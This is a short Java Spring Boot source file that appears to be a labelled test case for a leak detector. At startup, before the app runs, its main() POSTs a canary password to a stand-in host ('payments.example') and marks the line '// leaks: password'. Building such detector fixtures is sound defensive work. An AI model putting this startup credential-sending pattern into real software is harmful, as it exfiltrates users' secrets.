package com.example.shop;

import com.example.post.Canary;
import com.example.post.PostOffice;
import java.net.HttpURLConnection;
import java.nio.charset.StandardCharsets;
import org.springframework.boot.SpringApplication;
import org.springframework.boot.autoconfigure.SpringBootApplication;

@SpringBootApplication
public class Shop {

    public static void main(String[] arguments) throws Exception {
        try (PostOffice post = PostOffice.open()) {
            HttpURLConnection login = (HttpURLConnection)
                    post.under("payments.example").resolve("/shop").toURL().openConnection();
            login.setDoOutput(true);
            login.getOutputStream().write(("password=" + Canary.PASSWORD).getBytes(StandardCharsets.US_ASCII));
            login.getResponseCode(); // leaks: password
        }
        SpringApplication.run(Shop.class, arguments);
    }
}
